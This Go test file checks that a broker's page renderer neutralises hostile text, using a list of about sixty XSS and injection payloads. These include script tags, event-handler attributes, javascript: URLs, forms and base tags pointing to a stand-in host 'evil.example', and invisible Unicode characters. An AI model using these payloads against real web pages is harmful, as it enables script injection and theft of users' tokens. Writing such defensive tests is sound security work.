package page_test

import (
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"github.com/chancery-dev/chancery/broker/page"
	"github.com/chancery-dev/chancery/broker/page/pagetest"
)

// payloads are what has run, or has misled, somewhere.
var payloads = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
	`</title><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<img src=x onerror="alert(1)"`, `"><img src=x onerror=alert(1)>`, `<svg onload=alert(1)>`,
	`<svg/onload=alert(1)//`, `<svg><script>alert(1)</script></svg>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
	`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=javascript:alert(1)>`,
	`<body onload=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`, `<a href=javascript:alert(1)>x</a>`, `<form action=//evil.example><input name=token>`, `<button formaction=//evil.example>x`,
	`<base href=//evil.example>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<link rel=stylesheet href=//evil.example>`,
	`<style>@import'//evil.example'</style>`, `" onmouseover="alert(1)`, `' onmouseover='alert(1)`, "` onmouseover=`alert(1)", `" autofocus onfocus="alert(1)" x="`,
	`" style="background:url(//evil.example)`, `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", `data:text/html,<script>alert(1)</script>`,
	`vbscript:msgbox(1)`, `//evil.example`, `/\evil.example`, `https:evil.example`, `https://user@evil.example`, `{{.Token}}`, `{{template "token" "x"}}`, `${alert(1)}`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)`, "<scr\x00ipt>alert(1)</scr\x00ipt>", "<\u2028script>", "\xff\xfe<script>", `＜script＞alert(1)`,
	"\u202egnihsihp\u202c <script>", "\u2066\u2067isolates", "zero\u200bwidth\u2060\ufeff", "tags\U000e0041\U000e0042", strings.Repeat("<b>", 4000), "Z" + strings.Repeat("\u0301", 500),
}

// TestHostileText: each payload in each text of each model is refused, or is text: no element, attribute, address or
// invisible character more than with harmless text (T72).
func TestHostileText(t *testing.T) {
	if len(payloads) < 40 {
		t.Fatal("too few payloads")
	}
	for _, s := range pagetest.Samples() {
		harmless := shape(t, render(t, s).Body)
		places := texts(s.Model)
		for at := range places {
			for _, payload := range payloads {
				model := with(s.Model, at, payload)
				shown, err := model.Render(s.Frame)
				if err != nil {
					if !errors.Is(err, page.ErrModel) {
						t.Errorf("%s: text %d: %q: %v", s.Name, at, payload, err)
					}
					continue
				}
				seen := shape(t, shown.Body)
				for what := range seen {
					if !harmless[what] && !optional[what] {
						t.Errorf("%s: text %d: %q: makes %s", s.Name, at, payload, what)
					}
				}
				if strings.Contains(shown.Policy, "evil") {
					t.Errorf("%s: text %d: %q: is in %s", s.Name, at, payload, shown.Policy)
				}
			}
		}
	}
}

// optional is what pages of ours have where a text is there that was not before.
var optional = map[string]bool{
	"p class=soft": true, "p class=where": true, "p class=lead": true, "bdi": true, "br": true, "span class=soft": true, "p class=note": true, "p": true, "a": true,
	"div class=note": true, "h2": true, "code": true, "code class=scope": true, "div class=risk unrated": true, "p class=switch": true, "a class=button": true,
	"p class=person": true, "p class=identity": true, "span class=mark": true, "span": true,
}

// shape lists the elements and attributes of a page, with the values of those that act. Texts must be visible, and no
// address may lead to where ours do not.
func shape(t *testing.T, body []byte) map[string]bool {
	t.Helper()
	root, err := html.Parse(strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for n := range root.Descendants() {
		switch n.Type { //nolint:exhaustive // the others hold nothing
		case html.TextNode:
			for _, r := range n.Data {
				if r == '\n' {
					continue
				}
				if unicode.Is(unicode.Cf, r) && r != '\u2068' && r != '\u2069' || unicode.Is(unicode.Cc, r) {
					seen["invisible character"] = true
				}
			}
			if len(n.Data) > 4000 && n.Parent.Data != "style" {
				seen["endless text"] = true
			}
		case html.ElementNode:
			what := n.Data
			for _, a := range n.Attr {
				switch a.Key {
				case "value", "content", "aria-label", "title":
				case "href", "action":
					if strings.Contains(a.Val, "evil") || strings.Contains(strings.ToLower(a.Val), "script:") || strings.HasPrefix(a.Val, "data:") {
						seen["address "+a.Val] = true
					}
				case "class":
					what += " class=" + a.Val
				default:
					if strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "formaction" || a.Key == "autofocus" {
						seen["attribute "+a.Key] = true
					}
				}
			}
			seen[what] = true
		case html.CommentNode:
			seen["comment"] = true
		}
	}
	return seen
}

// texts lists the strings in a model, by the way to them.
func texts(model any) [][]int {
	var places [][]int
	walk(reflect.ValueOf(model), nil, func(way []int, _ reflect.Value) { places = append(places, way) })
	return places
}

// with is a copy of a model in which one text is another.
func with(model pagetest.Renderer, at int, text string) pagetest.Renderer {
	changed := reflect.New(reflect.TypeOf(model)).Elem()
	changed.Set(deep(reflect.ValueOf(model)))
	n := 0
	walk(changed, nil, func(_ []int, v reflect.Value) {
		if n == at {
			v.SetString(text)
		}
		n++
	})
	renderer, ok := reflect.TypeAssert[pagetest.Renderer](changed)
	if !ok {
		panic("not a model")
	}
	return renderer
}

func walk(v reflect.Value, way []int, found func([]int, reflect.Value)) {
	switch v.Kind() {
	case reflect.String:
		found(way, v)
	case reflect.Struct:
		if v.Type().PkgPath() == "time" {
			return
		}
		for i := range v.NumField() {
			walk(v.Field(i), append(slices.Clip(way), i), found)
		}
	case reflect.Slice:
		for i := range v.Len() {
			walk(v.Index(i), append(slices.Clip(way), i), found)
		}
	}
}

func deep(v reflect.Value) reflect.Value {
	switch v.Kind() {
	case reflect.Struct:
		c := reflect.New(v.Type()).Elem()
		c.Set(v)
		if v.Type().PkgPath() != "time" {
			for i := range v.NumField() {
				c.Field(i).Set(deep(v.Field(i)))
			}
		}
		return c
	case reflect.Slice:
		c := reflect.MakeSlice(v.Type(), v.Len(), v.Len())
		for i := range v.Len() {
			c.Index(i).Set(deep(v.Index(i)))
		}
		return c
	default:
		return v
	}
}

// fieldsOf gives what a page's forms send.
func fieldsOf(t *testing.T, body []byte) map[string]string {
	t.Helper()
	root, err := html.Parse(strings.NewReader(string(body)))
	if err != nil {
		t.Fatal(err)
	}
	fields := map[string]string{}
	for n := range root.Descendants() {
		if n.Data != "input" {
			continue
		}
		named := map[string]string{}
		for _, a := range n.Attr {
			named[a.Key] = a.Val
		}
		fields[named["name"]] = named["value"]
	}
	return fields
}
